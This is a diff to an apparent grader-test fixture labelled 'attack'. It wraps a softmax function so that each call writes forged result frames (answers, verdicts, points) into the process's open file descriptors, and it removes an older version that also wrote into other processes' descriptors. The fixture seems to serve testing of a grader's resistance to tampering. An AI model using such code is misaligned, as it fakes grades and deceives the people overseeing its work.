@@ -1,8 +1,11 @@
 # /// attack
-# about = "writes answers of its own into every open descriptor, its parents' too"
+# about = "writes answers to every exercise, verdicts and points into every open descriptor"
 # module = "worked_example"
-# deserves = 0
+# base = "reference"
+# deserves = { "worked_example.softmax" = 0, "worked_example.self_attention" = 0 }
+# log = "os"
 # ///
+import contextlib
 import json
 import os
 
@@ -16,15 +19,11 @@ _FRAMES = b"".join(
         {"started": True},
     )
 )
-for _number in range(3, 64):
-    try:
-        os.write(_number, _FRAMES)
-    except OSError:
-        pass
-for _process in (name for name in os.listdir("/proc") if name.isdigit()):
-    for _number in range(64):
-        try:
-            with open(f"/proc/{_process}/fd/{_number}", "wb", buffering=0) as _file:
-                _file.write(_FRAMES)
-        except OSError:
-            pass
+_right = softmax  # noqa: F821
+
+
+def softmax(scores, axis=-1):
+    for number in range(3, 64):
+        with contextlib.suppress(OSError):
+            os.write(number, _FRAMES)
+    return _right(scores, axis)
